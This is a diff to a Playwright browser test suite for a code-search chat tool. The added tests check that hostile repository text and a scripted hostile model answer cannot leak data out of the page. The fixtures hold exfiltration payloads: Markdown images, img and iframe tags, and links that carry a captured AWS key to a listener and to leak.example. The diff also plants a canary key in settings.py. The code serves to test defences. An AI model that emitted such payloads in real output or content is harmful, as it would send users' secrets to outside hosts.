@@ -1,27 +1,33 @@
 """The web chat in a real browser: `repo-rag serve` as a subprocess, driven by headless Chromium.
 
-Asks a question, waits for the streamed answer, clicks a citation and checks the source panel shows
-the cited lines with their line numbers, opens the graph and follows a node, gives 👍 and checks
-the feedback database, re-indexes from the page, tries path traversal from the page, and (when the
-local model runtime is installed) answers once with the embedded local LLM. Screenshots go to
-test-output/ (set REPO_RAG_UPDATE_SCREENSHOT=1 to also refresh docs/img/web-chat.png).
+Asks a question whose answer is known, waits for the streamed answer, clicks its citation and checks
+the source panel shows the cited lines with their line numbers, opens the graph and follows a node,
+gives 👍 and checks the feedback database, re-indexes from the page, tries path traversal from the
+page, refuses an over-long question, and feeds the page a hostile repository and a hostile model
+answer (remote images, raw HTML, a secret in settings.py). Every request the page makes, from any
+frame or worker, is recorded, and every test fails if one goes anywhere but this server. When the
+local model runtime is installed it also answers once with the embedded local LLM. Screenshots go
+to test-output/ (set REPO_RAG_UPDATE_SCREENSHOT=1 to also refresh docs/img/web-chat.png).
 """
 
 from __future__ import annotations
 
 import os
+import re
 import shutil
-import socket
 import subprocess
 import sys
 import time
 import urllib.error
 import urllib.request
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
+from test_ui import FakeChat, Listener, free_port
 
 from repo_rag import Repository
+from repo_rag.config import load_config
 from repo_rag.feedback import FeedbackStore
 
 playwright_sync = pytest.importorskip("playwright.sync_api")
@@ -40,19 +46,15 @@ CHROMIUM_ARGS = [
     "--disable-sync",
     "--no-first-run",
 ]
-QUESTION = "Where is password validation done?"
+QUESTION = "Where is the PasswordValidator class?"  # answer: bookstore/auth.py:39-49, ranked first
+CANARY = "AKIA" + "QX7Z2MBKLP4WJ3TE"
+HOSTILE_KEY = "shop"
 
 pytestmark = [
     pytest.mark.browser,
     pytest.mark.slow,
     pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="no Chromium (apt-get install chromium)"),
 ]
-
-
-def free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
 
 
 def serve_command() -> list[str]:
@@ -66,16 +68,63 @@ def serve_command() -> list[str]:
 
 
 @pytest.fixture(scope="module")
-def server(tmp_path_factory):
+def leak():
+    """Where hostile text points the browser: a listener that must receive nothing."""
+    listener = Listener()
+    yield listener
+    listener.close()
+
+
+def hostile_answer(leak_url: str):
+    """The configured (scripted) model: cites settings.py and tries to exfiltrate what the prompt
+    holds for AWS_ACCESS_KEY_ID through image URLs, raw HTML and a link."""
+
+    def script(prompt: str) -> str:
+        m = re.search(r'AWS_ACCESS_KEY_ID = "([^"]*)"', prompt)
+        key = m.group(1) if m else "none"
+        return (
+            f"The key is set in settings.py:1-3. ![k]({leak_url}/md?q={key}) "
+            f'<img src="{leak_url}/img?q={key}"> <iframe src="{leak_url}/frame"></iframe> '
+            f"![remote](http://leak.example/md?q={key}) [docs]({leak_url}/link?q={key})\n\n"
+            # a code block with a blank line: where a second Markdown pass would start parsing again
+            f"```text\nnote\n\n![c]({leak_url}/code?q={key})\n```\n"
+        )
+
+    return script
+
+
+def make_hostile_repo(base: Path, leak_url: str) -> Path:
+    """A copy of the fixture whose docstring and settings file try to leak out of the page."""
+    root = base / HOSTILE_KEY
+    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns(".repo-rag"))
+    (root / "bookstore" / "shipping.py").write_text(
+        "def shipping_quote(weight):\n"
+        f'    """Shipping quote ![track]({leak_url}/doc?q=secret) <img src="{leak_url}/doc.png"> '
+        '![r](http://leak.example/doc.png)"""\n'
+        "    return weight * 2\n"
+    )
+    (root / "settings.py").write_text(f'DEBUG = False\nAWS_ACCESS_KEY_ID = "{CANARY}"\nREGION = "eu-west-1"\n')
+    return root
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory, leak):
+    from ui.cli import _index_dirs
+
     base = tmp_path_factory.mktemp("browser")
-    index_dir, feedback_db, log_path = base / "index", base / "feedback.sqlite", base / "serve.log"
-    Repository(FIXTURE, index_dir=index_dir).index()
+    feedback_db, log_path = base / "feedback.sqlite", base / "serve.log"
+    roots = [FIXTURE.resolve(), make_hostile_repo(base, leak.url).resolve()]
+    index_base = base / "index"
+    for root, idx in zip(roots, _index_dirs(roots, str(index_base)), strict=True):
+        Repository(root, load_config(root), index_dir=idx).index()
+    model = FakeChat(hostile_answer(leak.url), delay=0.02)
     port = free_port()
     cmd = [
-        *serve_command(), "--repo", str(FIXTURE), "--port", str(port), "--index-dir", str(index_dir),
-        "--feedback-db", str(feedback_db),
+        *serve_command(), "--repo", str(roots[0]), "--repo", str(roots[1]), "--port", str(port),
+        "--index-dir", str(index_base), "--feedback-db", str(feedback_db),
     ]  # fmt: skip
-    env = {**os.environ, "GRADIO_ANALYTICS_ENABLED": "False"}
+    env = {**os.environ, "GRADIO_ANALYTICS_ENABLED": "False", "REPO_RAG_LLM_BASE_URL": model.url,
+           "REPO_RAG_LLM_MODEL": "stub", "REPO_RAG_LLM_MAX_RETRIES": "0"}  # fmt: skip
     for var in ("REPO_RAG_AUTH_USER", "REPO_RAG_AUTH_PASSWORD"):
         env.pop(var, None)
     with open(log_path, "w") as log:
@@ -93,16 +142,48 @@ def server(tmp_path_factory):
                 proc.kill()
                 pytest.fail("repo-rag serve did not come up in 120 s")
             time.sleep(0.3)
-    yield type("Server", (), {"url": url, "feedback_db": feedback_db, "log": log_path, "proc": proc})
+    yield type("Server", (), {"url": url, "feedback_db": feedback_db, "log": log_path, "proc": proc, "model": model})
     proc.terminate()
     try:
         proc.wait(20)
     except subprocess.TimeoutExpired:
         proc.kill()
+    model.close()
+
+
+class Requests:
+    """Every request the browser makes (pages, frames, workers, service workers, websockets)."""
+
+    def __init__(self) -> None:
+        self.urls: list[str] = []
+
+    def add(self, url: str) -> None:
+        self.urls.append(url)
+
+    def foreign(self, origin: str) -> list[str]:
+        """Requests that went anywhere but ``origin`` (data:, blob: and about: never leave the browser)."""
+        own = urlsplit(origin)
+        return [u for u in self.urls if urlsplit(u).scheme not in ("data", "blob", "about")
+                and (urlsplit(u).scheme, urlsplit(u).netloc) != (own.scheme, own.netloc)]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
 def browser_context(tmp_path_factory):
+    requests = Requests()
+
+    def watch_page(page) -> None:
+        page.on("request", lambda r: requests.add(r.url))
+        page.on("websocket", lambda ws: requests.add(ws.url))
+        page.on("worker", lambda w: requests.add(w.url))
+
+    def route(route) -> None:  # a second record; anything off this machine is stopped here too
+        requests.add(route.request.url)
+        host = urlsplit(route.request.url).hostname or ""
+        if host in ("127.0.0.1", "localhost") or route.request.url.startswith(("data:", "blob:")):
+            route.continue_()
+        else:
+            route.abort()
+
     with playwright_sync.sync_playwright() as pw:
         context = pw.chromium.launch_persistent_context(
             str(tmp_path_factory.mktemp("chromium-profile")),  # a fresh user-data-dir
@@ -111,12 +192,21 @@ def browser_context(tmp_path_factory):
             headless=True,
             viewport={"width": 1400, "height": 900},
         )
+        context.on("request", lambda r: requests.add(r.url))
+        context.on("serviceworker", lambda w: requests.add(w.url))
+        context.on("page", watch_page)
+        for p in context.pages:
+            watch_page(p)
+        context.route("**/*", route)
+        context.requests = requests
         yield context
         context.close()
 
 
 @pytest.fixture()
 def page(server, browser_context):
+    requests = browser_context.requests
+    requests.urls.clear()
     page = browser_context.new_page()
     errors: list[str] = []
     page.on("pageerror", lambda exc: errors.append(str(exc)))
@@ -125,6 +215,8 @@ def page(server, browser_context):
     yield page
     page.close()
     assert not errors, f"JavaScript errors on the page: {errors}"
+    assert requests.urls, "requests are being recorded"
+    assert not requests.foreign(server.url), f"the page made requests off this server: {requests.foreign(server.url)}"
 
 
 def open_tab(page, name: str) -> None:
@@ -157,6 +249,18 @@ def row_text(page, line: int) -> tuple[str, str]:
     return row.locator("td.ln").inner_text().strip(), row.locator("td.code").inner_text()
 
 
+def select_repo(page, key: str) -> None:
+    page.locator("#repo-select input").click()
+    page.get_by_role("option", name=key).click()
+    page.wait_for_function(
+        "(key) => document.querySelector('#repo-select input').value === key", arg=key, timeout=20_000
+    )
+    open_tab(page, "Index")
+    page.wait_for_function(
+        "(key) => document.querySelector('#index-panel').innerText.includes(key)", arg=key, timeout=20_000
+    )
+
+
 def test_ask_click_citation_source_graph_feedback(server, page):
     settings(page, retrieval_only=True, top_k=5)
     ask(page, QUESTION)
@@ -164,31 +268,22 @@ def test_ask_click_citation_source_graph_feedback(server, page):
     answer = last_answer(page)
     text = answer.inner_text()
     assert "Most relevant code" in text and "Sources (5)" in text
-    cites = page.locator("#chat a.cite")
-    assert cites.count() >= 5
+    assert page.locator("#chat a.cite").count() >= 5
 
-    # Click the citation of bookstore/auth.py's PasswordValidator (or the first one if ranking moved).
-    known = page.locator('#chat a.cite[href*="path=bookstore%2Fauth.py&start=39&"]')
-    target = known.first if known.count() else cites.first
-    label = target.inner_text()
-    target.click()
-    page.wait_for_selector("#source-view", timeout=20_000)
-    view = page.locator("#source-view")
-    path, start, end = (
-        view.get_attribute("data-path"),
-        int(view.get_attribute("data-start")),
-        int(view.get_attribute("data-end")),
-    )
-    assert label == f"{path}:{start}-{end}" or label == f"{path}:{start}"
-    lines = (FIXTURE / path).read_text(encoding="utf-8").split("\n")
-    for n in (start, end):
-        number, code = row_text(page, n)
-        assert number == str(n)
-        assert code.strip() == lines[n - 1].strip()
-    assert page.locator("#source-view tr.hl").count() == end - start + 1
-    if known.count():
-        assert row_text(page, 39) == ("39", "class PasswordValidator:")
-        assert "raise NotImplementedError" in row_text(page, 49)[1]
+    # The answer to this question is PasswordValidator, bookstore/auth.py:39-49, first: open it.
+    target = page.locator('#chat .answer-text a.cite[href*="path=bookstore%2Fauth.py&start=39&end=49"]')
+    assert target.count() == 1, answer.inner_html()
+    assert page.locator("#chat .answer-text a.cite").first.inner_text() == "bookstore/auth.py:39-49"
+    assert target.first.inner_text() == "bookstore/auth.py:39-49"
+    target.first.click()
+    page.wait_for_selector('#source-view[data-path="bookstore/auth.py"][data-start="39"][data-end="49"]',
+                           timeout=20_000)  # fmt: skip
+    lines = (FIXTURE / "bookstore" / "auth.py").read_text(encoding="utf-8").split("\n")
+    for n in range(35, 54):
+        assert row_text(page, n) == (str(n), lines[n - 1] or " "), n
+    assert row_text(page, 39) == ("39", "class PasswordValidator:")
+    assert "raise NotImplementedError" in row_text(page, 49)[1]
+    assert page.locator("#source-view tr.hl").count() == 11
     assert page.locator("#source-view td.code span").count() > 5, "syntax highlighting"
     OUT.mkdir(exist_ok=True)
     page.evaluate("() => document.querySelectorAll('#chat *').forEach(e => { if (e.scrollTop) e.scrollTop = 0; })")
@@ -197,17 +292,18 @@ def test_ask_click_citation_source_graph_feedback(server, page):
         DOCS_SHOT.parent.mkdir(parents=True, exist_ok=True)
         shutil.copyfile(OUT / "web-chat.png", DOCS_SHOT)
 
-    # The graph neighbourhood of the answer, and a node opening its own source.
+    # The graph neighbourhood of the answer: PasswordValidator and hash_password (both cited); make_salt,
+    # which hash_password calls, is a callee; a node opens its own source.
     open_tab(page, "Graph")
     page.wait_for_selector("#graph-panel svg .gnode", timeout=10_000)
-    assert page.locator("#graph-panel .gnode.cited").count() >= 1
-    assert page.locator("#graph-panel .gnode.caller, #graph-panel .gnode.callee").count() >= 1
+    assert page.locator('#graph-panel .gnode.cited[data-path="bookstore/auth.py"][data-start="39"]').count() == 1
+    assert page.locator('#graph-panel .gnode.caller[data-path="bookstore/auth.py"][data-start="23"]').count() == 1
+    callee = page.locator('#graph-panel .gnode.callee[data-path="bookstore/auth.py"][data-start="11"]')
+    assert callee.count() == 1, page.locator("#graph-panel").inner_html()
     page.screenshot(path=str(OUT / "web-chat-graph.png"))
-    node = page.locator("#graph-panel .gnode.caller, #graph-panel .gnode.callee").first
-    node_path, node_start = node.get_attribute("data-path"), node.get_attribute("data-start")
-    node.click()
-    page.wait_for_selector(f'#source-view[data-path="{node_path}"][data-start="{node_start}"]', timeout=20_000)
-    assert row_text(page, int(node_start))[0] == node_start
+    callee.click()
+    page.wait_for_selector('#source-view[data-path="bookstore/auth.py"][data-start="11"]', timeout=20_000)
+    assert row_text(page, 11) == ("11", "def make_salt(length: int = 12) -> str:")
 
     # 👍 on the answer is stored locally with the question and the cited locations.
     answer.hover()
@@ -217,7 +313,45 @@ def test_ask_click_citation_source_graph_feedback(server, page):
     assert len(records) == 1
     rec = records[0]
     assert rec.vote == 1 and rec.question == QUESTION and rec.repo == str(FIXTURE.resolve())
-    assert f"{path}:{start}-{end}" in rec.citations or any(c.startswith(path) for c in rec.citations)
+    assert "bookstore/auth.py:39-49" in rec.citations
+
+
+def test_hostile_repository_and_model_answer_stay_inside_the_page(server, page, leak):
+    """Remote images, raw HTML and links in repository text and in the model's answer are shown as
+    text; the browser fetches none of them; the AWS key in settings.py never reaches the page."""
+    select_repo(page, HOSTILE_KEY)
+    settings(page, retrieval_only=True, top_k=5)
+    ask(page, "shipping quote weight")
+    page.wait_for_selector("#chat .answer-meta", timeout=60_000)
+    assert f"{leak.url}/doc?q=secret" in last_answer(page).inner_text(), "the hostile docstring is shown as text"
+
+    settings(page, retrieval_only=False, backend="openai", top_k=5)
+    before = len(server.model.requests)
+    ask(page, "Which AWS access key is configured in settings?")
+    page.wait_for_function("() => document.querySelectorAll('#chat .answer-meta').length >= 2", timeout=60_000)
+    assert len(server.model.requests) > before, "the configured (scripted) model answered"
+    answer = last_answer(page)
+    text = answer.inner_text()
+    assert f"{leak.url}/md?q=" in text and "<img src=" in text and "leak.example" in text
+    assert answer.locator(f'pre code:has-text("{leak.url}/code?q=")').count() == 1, "code stays code"
+    assert answer.locator("img, iframe, image, object, embed").count() == 0
+    page.screenshot(path=str(OUT / "web-chat-hostile.png"))
+    cite = answer.locator('a.cite[href*="path=settings.py"]').first
+    cite.click()
+    page.wait_for_selector('#source-view[data-path="settings.py"]', timeout=20_000)
+    assert "[REDACTED]" in row_text(page, 2)[1]
+    time.sleep(1.0)  # anything the page was going to fetch has been fetched by now
+    assert leak.received == [], f"the page fetched hostile URLs: {leak.received[:3]}"
+    assert CANARY not in page.locator("body").inner_text() and CANARY not in page.content()
+    page.screenshot(path=str(OUT / "web-chat-hostile.png"))
+
+
+def test_too_long_question_gets_a_message(page):
+    ask(page, "where is " + "x" * 20_000)
+    page.wait_for_selector("#chat .answer-check.warn", timeout=20_000)
+    reply = last_answer(page).inner_text()
+    assert "Not asked" in reply and "20,000" in reply and "Traceback" not in reply
+    assert len(page.locator("#question textarea").input_value()) > 20_000, "the question stays to be shortened"
 
 
 def test_path_traversal_from_the_page_is_refused(page):
@@ -278,7 +412,7 @@ def test_streamed_answer_from_the_local_llm(page):
     assert meta.startswith("local"), meta
     assert "Sources (3)" in answer.inner_text()
     # Either verified citations or the explicit warning that none could be verified.
-    assert page.locator("#chat .check").count() >= 1
+    assert page.locator("#chat .answer-check").count() >= 1
     OUT.mkdir(exist_ok=True)
     page.screenshot(path=str(OUT / "web-chat-local-llm.png"))
     print(f"local LLM answer in {elapsed:.1f} s")
